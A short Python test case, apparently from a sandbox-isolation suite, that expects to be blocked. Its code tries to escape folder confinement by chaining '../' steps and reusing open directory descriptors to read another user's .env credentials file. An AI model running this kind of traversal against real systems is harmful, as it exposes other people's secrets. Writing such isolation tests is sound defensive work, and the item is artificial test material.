# Goes up from every folder that is open.
# ends: blocked
# control: user

import os
import stat

try:
    path = "../" * 30 + os.environ["VICTIM_FOLDER"][1:] + "/home/.env"
    folders = [os.open("/", os.O_PATH), os.open(".", os.O_RDONLY)]
    for descriptor in range(3, 64):
        try:
            if stat.S_ISDIR(os.fstat(descriptor).st_mode):
                folders.append(descriptor)
        except OSError:
            pass
    texts = []
    for folder in folders:
        try:
            texts.append(os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 100))
        except FileNotFoundError:
            pass
    if not texts:
        raise FileNotFoundError("not there")
    verdict = f"GOT:{texts}"
except OSError as error:
    verdict = f"BLOCKED:{error}"
verdict
